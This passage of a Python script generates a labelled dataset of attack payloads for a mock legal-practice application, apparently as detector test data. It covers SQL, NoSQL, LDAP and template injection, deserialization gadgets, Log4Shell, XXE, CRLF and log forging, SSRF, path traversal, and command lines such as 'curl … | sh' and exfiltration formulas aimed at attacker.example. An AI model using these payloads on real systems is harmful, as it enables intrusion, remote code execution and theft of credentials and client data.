    ("billing-export-csv-plus-dde", "+cmd|'/c notepad'!'A1'"),
    ("billing-export-csv-at-dde", "@SUM(1,1)*cmd|'/C calc'!A0"),
    ("billing-export-csv-minus-dde", "-2+3+cmd|' /C calc'!A0"),
    ("privilege-log-export-csv-importxml", "=IMPORTXML(CONCAT(\"https://attacker.example/x?\",A2),\"//a\")"),
    ("privilege-log-export-csv-webservice", "=WEBSERVICE(\"https://attacker.example/w?\"&C2)"),
    ("session-cookie-pickle+base64", "gAJjcG9zaXgKc3lzdGVtCnEAWAIAAABpZHEBhXECUnEDLg=="),
    ("saved-search-php-object-injection", "O:13:\"ExportHandler\":2:{s:7:\"command\";s:2:\"id\";s:4:\"path\";s:9:\"/tmp/x.sh\";}"),
    ("exhibit-path-phar-deserialization", "phar:///var/www/uploads/exhibit_12.jpg/x"),
    ("clause-metadata-yaml-python", "!!python/object/apply:os.system [\"id\"]"),
    ("clause-metadata-yaml-snakeyaml", "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://attacker.example/y.jar\"]]]]"),
    ("matter-json-fastjson-autotype", "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"ldap://203.0.113.66:1389/x\",\"autoCommit\":true}"),
    ("matter-json-dotnet-typename", "{\"$type\":\"System.Windows.Data.ObjectDataProvider, PresentationFramework\",\"MethodName\":\"Start\",\"ObjectInstance\":{\"$type\":\"System.Diagnostics.Process, System\"},\"MethodParameters\":{\"$type\":\"System.Collections.ArrayList, mscorlib\",\"$values\":[\"cmd\",\"/c whoami\"]}}"),
    ("billing-formula-python-eval", "__import__('os').system('id')"),
    ("billing-formula-node-eval", "require('child_process').execSync('id').toString()"),
    ("billing-formula-js-constructor", "this.constructor.constructor('return process')().mainModule.require('fs').readFileSync('/etc/passwd','utf8')"),
    ("clause-rule-groovy", "\"id\".execute().text"),
    ("letter-template-ruby-interpolation", "#{`id`}"),
    ("letter-template-php-complex-syntax", "{${system('id')}}"),
    ("plain-ssti-jinja", "{{ self.__init__.__globals__.__builtins__.__import__('os').popen('id').read() }}"),
    ("plain-log4shell", "${jndi:ldap://attacker.example/a}"),
    ("plain-xxe", "<!DOCTYPE x [<!ENTITY f SYSTEM \"file:///etc/shadow\">]><x>&f;</x>"),
    ("plain-csv-formula", "=cmd|'/c calc'!A1"),
    ("plain-prototype-pollution", "{\"__proto__\":{\"admin\":true}}"),
    ("plain-erb", "<%= system('id') %>"),
    ("plain-spel", "${T(java.lang.Runtime).getRuntime().exec('id')}"),
    ("clause-template-jinja+urlenc", "%7B%7B%20config.__class__.__init__.__globals__%5B%27os%27%5D.popen%28%27id%27%29.read%28%29%20%7D%7D"),
    ("clause-json-jinja+unicode-escape", "{\"clause_body\":\"\\u007b\\u007b cycler.__init__.__globals__.os.popen('id').read() \\u007d\\u007d\"}"),
    ("letter-template-twig-undefined-filter", "Dear {{ client_name }},\n\nThank you for retaining us. {{ _self.env.registerUndefinedFilterCallback(\"exec\") }}{{ _self.env.getFilter(\"id\") }}"),
    ("clause-template-freemarker-objectconstructor", "${\"freemarker.template.utility.ObjectConstructor\"?new()(\"java.lang.ProcessBuilder\",\"id\").start()}"),
    ("deposition-log4shell", "Q. Please state your name for the record.\nA. ${jndi:ldap://198.51.100.77/dep}"),
    ("time-entry-csv-hyperlink", "=HYPERLINK(\"https://attacker.example/invoice\",\"0.3 – rev. email re: NDA\")"),
    ("clause-template-jinja-getattr-bypass", "{{ ()|attr('__class__')|attr('__base__')|attr('__subclasses__')() }}"),
]

# ---------------------------------------------------------------- nosqli
NOSQLI = [
    ("login-json-ne", "{\"email\":\"partner@lawfirm.example\",\"password\":{\"$ne\":null}}"),
    ("login-query-param-ne", "password[$ne]=x"),
    ("matter-query-param-gt", "matter_id[$gt]="),
    ("reset-token-regex-extract", "{\"reset_token\":{\"$regex\":\"^a\"}}"),
    ("search-where-sleep", "{\"$where\":\"sleep(5000) || true\"}"),
    ("custodian-where-string-breakout", "Doe'; return true; var x='"),
    ("privilege-filter-or", "{\"$or\":[{\"privileged\":false},{\"privileged\":true}]}"),
    ("matter-filter-exists", "{\"owner\":{\"$exists\":true}}"),
    ("login-query-regex-dotstar", "username[$regex]=.*&password[$regex]=.*"),
    ("filter-expr-always-true", "{\"$expr\":{\"$eq\":[1,1]}}"),
    ("billing-filter-where-busyloop", "{\"$where\":\"function(){ var d=new Date(); while(new Date()-d<5000){} return this.billing_rate > 0; }\"}"),
    ("report-pipeline-lookup-users", "[{\"$lookup\":{\"from\":\"users\",\"localField\":\"owner\",\"foreignField\":\"_id\",\"as\":\"u\"}}]"),
    ("plain-ne", "{\"$ne\": 1}"),
    ("plain-gt", "{\"$gt\": \"\"}"),
    ("plain-regex", "{\"$regex\": \".*\"}"),
    ("login-nin-empty", "{\"login\":{\"$nin\":[]},\"pw\":{\"$nin\":[]}}"),
    ("login-form-ne+urlenc", "email=partner%40lawfirm.example&password%5B%24ne%5D="),
    ("custodian-where-drop", "'; db.users.drop(); var z='"),
    ("ediscovery-filter-gte-ne", "{\"doc_date\":{\"$gte\":\"\"},\"privilege\":{\"$ne\":\"Withhold\"}}"),
    ("login-regex-options", "{\"name\":{\"$regex\":\"^adm\",\"$options\":\"i\"},\"password\":{\"$ne\":\"\"}}"),
    ("login-query-type", "password[$type]=2"),
    ("login-json-ne+unicode-escape", "{\"password\":{\"\\u0024ne\":null}}"),
]

# ---------------------------------------------------------------- crlf
CRLF = [
    ("download-filename-set-cookie", "Ex. 12.pdf\r\nSet-Cookie: session=attacker-fixed-value"),
    ("redirect-url-location+urlenc", "/matters/2023-0142%0d%0aLocation:%20https://attacker.example/"),
    ("lang-param-response-splitting+urlenc", "en%0d%0aContent-Length:%200%0d%0a%0d%0aHTTP/1.1%20200%20OK%0d%0aContent-Type:%20text/html%0d%0a%0d%0a<script>alert(1)</script>"),
    ("mail-subject-bcc", "Re: Acme v. Beta – draft settlement\r\nBcc: archive@attacker.example"),
    ("intake-email-cc", "intake@client.example\nCc: leak@attacker.example"),
    ("intake-name-mail-body", "Jane Roe\r\nContent-Type: text/html\r\n\r\n<a href=https://attacker.example/sso>Sign engagement letter</a>"),
    ("time-entry-log-forging", "rev. email re: NDA\n2024-03-11T09:14:02Z INFO user=admin action=privilege_log.export status=approved"),
    ("billing-hours-audit-forging", "0.3\r\n[AUDIT] matter 2023-0142 legal hold RELEASED by gc@client.example"),
    ("timezone-cookie-inject+urlenc", "tz=America/New_York%0D%0ASet-Cookie:%20role=partner;%20Path=/"),
    ("download-filename-header+double-urlenc", "Ex12.pdf%250d%250aX-Injected:%201"),
    ("download-filename-header+utf8-truncation", "Ex12.pdf%E5%98%8A%E5%98%8DSet-Cookie:%20x=1"),
    ("intake-email-smtp-rcpt", "intake@client.example>\r\nRCPT TO:<leak@attacker.example>"),
    ("plain-set-cookie+urlenc", "%0d%0aSet-Cookie:%20crlf=injected"),
    ("plain-header", "x\r\nX-Injected: true"),
    ("plain-log-lf", "ok\nERROR forged entry"),
    ("calendar-title-ics-attendee", "Deposition of J. Smith\r\nATTENDEE:mailto:leak@attacker.example"),
    ("mail-subject-reply-to", "Settlement proposal\nReply-To: gc@attacker.example"),
    ("redirect-location-lf", "/dashboard\nLocation: https://attacker.example/"),
    ("download-filename-quote-body", "Exhibit 7.pdf\"\r\nContent-Type: text/html\r\n\r\n<h1>Session expired</h1>"),
    ("note-log-ansi-escape", "rev. memo\u001b[2J\u001b[1;1Hlogin ok user=admin"),
    ("custodian-syslog-forge", "Lee, Min\n<13>Mar 11 09:14:02 review01 app: reviewer=admin exported VOL003"),
    ("notice-subject-mime-injection", "Notice of Deposition\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=zz\r\n\r\n--zz\r\nContent-Type: text/plain\r\n\r\nWire the retainer to the new account.\r\n--zz--"),
    ("time-entry-json-log-injection", "0.4 rev. draft\",\"level\":\"INFO\",\"event\":\"hold_released\",\"by\":\"gc"),
    ("note-log+unicode-nel", "Export complete\u0085AUDIT privilege log approved by partner"),
    ("redirect-refresh-folding+urlenc", "/portal%0d%0a%09Refresh:%200;url=https://attacker.example"),
    ("mail-to-header-bcc-lf", "dana@client.example\nBcc: spam-list@attacker.example\nX-Priority: 1"),
    ("webhook-header-value-host", "v1\r\nHost: 203.0.113.31"),
]

# ---------------------------------------------------------------- ldap / xpath
LDAP_XPATH = [
    ("directory-login-ldap-wildcard", "*)(uid=*))(|(uid=*"),
    ("directory-login-ldap-and-true", "admin)(&)"),
    ("directory-search-ldap-password-blind", "jdoe)(|(userPassword=a*)"),
    ("directory-search-ldap-group", "*)(memberOf=cn=Partners,ou=Groups,dc=lawfirm,dc=example"),
    ("directory-login-ldap+nullbyte", "admin))%00"),
    ("directory-search-ldap-or-objectclass", "Park*)(|(objectClass=*"),
    ("directory-search-ldap-description", "*)(&(objectClass=user)(description=*pass*)"),
    ("directory-login-ldap+urlenc", "%2a%29%28uid%3d%2a%29%29%28%7c%28uid%3d%2a"),
    ("clause-xml-xpath-auth-bypass", "' or '1'='1"),
    ("clause-xml-xpath-or-true", "x' or 1=1 or 'a'='a"),
    ("clause-xml-xpath-root-name", "' or name(/*[1])='matters' or 'a'='b"),
    ("users-xml-xpath-substring-blind", "' or substring(//user[1]/password,1,1)='a' or 'x'='y"),
    ("users-xml-xpath-union", "Doe']|//user/password|//*[@x='"),
    ("clause-xml-xpath-count", "' or count(//clause[@privileged='true'])>0 or '"),
    ("clause-xml-xpath2-doc-oob", "') or doc('http://attacker.example/x.xml') or ('"),
    ("credential-xml-xpath-numeric", "1 or string-length(//credential/secret)>10"),
    ("plain-ldap", "*)(|(objectclass=*)"),
    ("plain-xpath", "' or ''='"),
    ("intake-name-ldap-mail", "Roe, Jane*)(|(mail=*@lawfirm.example)"),
    ("clause-ref-xpath-union", "4.2(b)'] | //party[@role='client']/ssn | //x['"),
]


# ---------------------------------------------------------------- templates
# Each template wraps a hand-written payload tail in hand-written domain text.

def t_sqli(rng):
    heads = ["indemn! w/5 cap*", "2023-0142", "ABC0001200", "Doe, Jane", "§ 12.3", "Northwind Trading Co.",
             "contract_rev_07", "Privileged", "1:23-cv-04417", "L120"]
    tails = [
        ("boolean", "' OR 'a'='a"),
        ("union", "' UNION SELECT login, pw_hash FROM users-- -"),
        ("time-pg", "'; SELECT pg_sleep(6)--"),
        ("time-mysql", "' AND SLEEP(6)-- "),
        ("error-mssql", "' AND 1=CONVERT(int,@@version)--"),
        ("stacked", "'; UPDATE users SET role='admin' WHERE login='aud1t';--"),
    ]
    ctx = rng.choice(["search", "matter", "bates", "custodian", "tag"])
    tech, tail = rng.choice(tails)
    return f"{ctx}-{tech}", rng.choice(heads) + tail


def t_xss(rng):
    heads = ["Call w/ OC re: ESI ", "0.3 – rev. email re: NDA ", "Redacted – PII ", "§ 9.2 carve-outs ",
             "Ex. 14 ", "Hot doc: ABC0003310 ", "Beta Holdings LLC ", "Sullivan, M. "]
    vecs = [
        ("img-onerror", "<img src=x onerror=alert(document.domain)>"),
        ("svg-onload", "<svg onload=alert(document.cookie)>"),
        ("script-src", "<script src=https://attacker.example/r.js></script>"),
        ("attr-breakout", "\"><img src=1 onerror=alert(1)>"),
        ("iframe-javascript", "<iframe src=\"javascript:alert(origin)\"></iframe>"),
        ("details-ontoggle", "<details open ontoggle=alert(1)>"),
    ]
    ctx = rng.choice(["note", "billing-desc", "redaction-label", "comment"])
    tech, vec = rng.choice(vecs)
    return f"{ctx}-{tech}", rng.choice(heads) + vec


def t_cmdi(rng):
    heads = ["VOL0%02d" % rng.randint(23, 99), "Ex. %d.pdf" % rng.randint(1, 60), "Redline_v%d.docx" % rng.randint(2, 9),
             "ABC%07d" % rng.randint(1000, 9999)]
    seps = [("semicolon", "; "), ("and", " && "), ("pipe", " | "), ("newline", "\n")]
    cmds = ["id", "uname -a", "cat /etc/passwd", "curl -s http://203.0.113.80/i | sh", "sleep 9"]
    ctx = rng.choice(["export-volume", "convert-filename", "bates-prefix"])
    tech, sep = rng.choice(seps)
    return f"{ctx}-{tech}", rng.choice(heads) + sep + rng.choice(cmds)


def t_traversal(rng):
    depth = rng.randint(3, 9)
    targets = ["etc/passwd", "etc/hosts", "proc/self/environ", "srv/app/.env", "root/.bash_history"]
    ctx = rng.choice(["exhibit-path", "volume-path", "template-name"])
    lead = rng.choice(["", "VOL003/NATIVES/", "exhibits/", "templates/letters/"])
    return f"{ctx}-dotdot", lead + "../" * depth + rng.choice(targets)


def t_ssrf(rng):
    hosts = [("metadata", "169.254.169.254"), ("loopback", "127.0.0.1"), ("private", "10.0.%d.%d" % (rng.randint(0, 9), rng.randint(2, 250))),
             ("private", "172.16.%d.%d" % (rng.randint(0, 31), rng.randint(2, 250))), ("loopback", "localhost")]
    paths = ["/latest/meta-data/", "/admin", "/internal/export?matter=2023-0142", "/actuator/env", "/server-status"]
    ports = ["", ":8080", ":5000", ":9000"]
    tech, h = rng.choice(hosts)
    ctx = rng.choice(["import-url", "webhook", "docket-feed"])
    return f"{ctx}-{tech}", f"http://{h}{rng.choice(ports)}{rng.choice(paths)}"


def t_code(rng):
    heads = ["Dear ", "Client: ", "Matter: ", "§ 4.2 – ", "Counterparty: "]
    payloads = [
        ("jinja-popen", "{{ cycler.__init__.__globals__.os.popen('%s').read() }}"),
        ("log4shell", "${jndi:ldap://203.0.113.%d:1389/%s}"),
        ("freemarker-execute", "<#assign e=\"freemarker.template.utility.Execute\"?new()>${e(\"%s\")}"),
    ]
    tech, p = rng.choice(payloads)
    cmd = rng.choice(["id", "whoami", "uname -a", "cat /etc/hostname"])
    if tech == "log4shell":
        p = p % (rng.randint(2, 250), rng.choice(["a", "lh", "x1", "cls"]))
    else:
        p = p % cmd
    return f"letter-template-{tech}", rng.choice(heads) + p


def t_nosqli(rng):
    fields = ["password", "reset_token", "pin", "api_key"]
    ops = [("ne", "{\"$ne\":\"\"}"), ("gt", "{\"$gt\":\"\"}"), ("regex", "{\"$regex\":\".*\"}")]
    tech, op = rng.choice(ops)
    return f"login-json-{tech}", "{\"email\":\"%s@lawfirm.example\",\"%s\":%s}" % (rng.choice(["partner", "admin", "jpark", "rdiaz"]), rng.choice(fields), op)


def t_crlf(rng):
    heads = ["Ex. %d.pdf" % rng.randint(1, 60), "Re: Acme v. Beta", "0.%d rev. email" % rng.randint(1, 9)]
    injs = [("set-cookie", "\r\nSet-Cookie: sid=fixed%d" % rng.randint(100, 999)),
            ("bcc", "\r\nBcc: x%d@attacker.example" % rng.randint(1, 99)),
            ("log-forging", "\nINFO user=admin action=export matter=2023-0%d" % rng.randint(100, 999))]
    tech, inj = rng.choice(injs)
    return f"header-{tech}", rng.choice(heads) + inj


def t_ldap(rng):
    names = ["Park", "Lee", "Sullivan", "Dempsey", "Ortega"]
    attrs = ["userPassword", "mail", "telephoneNumber", "employeeNumber"]
    return "directory-search-ldap-or-injection", f"{rng.choice(names)}*)(|({rng.choice(attrs)}=*"


CATEGORIES = [
    ("sqli", SQLI, t_sqli, 12),
    ("xss", XSS, t_xss, 12),
    ("cmdi", CMDI, t_cmdi, 12),
    ("traversal", TRAVERSAL, t_traversal, 8),
    ("ssrf", SSRF, t_ssrf, 8),
    ("code", CODE, t_code, 10),
    ("nosqli", NOSQLI, t_nosqli, 4),
    ("crlf", CRLF, t_crlf, 5),
    ("ldap-xpath", LDAP_XPATH, t_ldap, 3),
]


def main():
    rng = random.Random(SEED)
    rows, seen = [], set()
    counts, lit_counts = {}, {}
    for cat, literals, tmpl, n_tmpl in CATEGORIES:
        items = []
        for cls, v in literals:
            assert v not in seen, f"duplicate literal: {v!r}"
            seen.add(v)
            items.append((cls, v))
        lit_counts[cat] = len(items)
        made, tries = 0, 0
        while made < n_tmpl:
            tries += 1
            assert tries < 5000, cat
            cls, v = tmpl(rng)
            if v in seen:
                continue
            seen.add(v)
            items.append((cls, v))
            made += 1
        counts[cat] = len(items)
        for cls, v in items:
            assert isinstance(v, str) and v and len(v) <= 1800
            rows.append({"category": cat, "class": cls, "value": v})
    total, lits = len(rows), sum(lit_counts.values())
    assert lits / total >= 0.80, (lits, total)
    out = Path(__file__).with_name("attacks.jsonl")
    with open(out, "w", encoding="utf-8", newline="\n") as fh:
        for i, r in enumerate(rows, 1):
            obj = {"id": f"{PREFIX}-{i:05d}", "category": r["category"], "class": r["class"],
                   "label": "attack", "value": r["value"]}
            fh.write(json.dumps(obj, ensure_ascii=False) + "\n")
    for cat, *_ in CATEGORIES:
        print(f"{cat:12s} {counts[cat]:4d}  (literals {lit_counts[cat]})")
    n_plain = sum(1 for r in rows if r["class"].startswith("plain-"))
    n_enc = sum(1 for r in rows if "+" in r["class"])
    print(f"total {total}  literals {lits} ({lits / total:.1%})  plain {n_plain}  encoded {n_enc}")


if __name__ == "__main__":
    main()
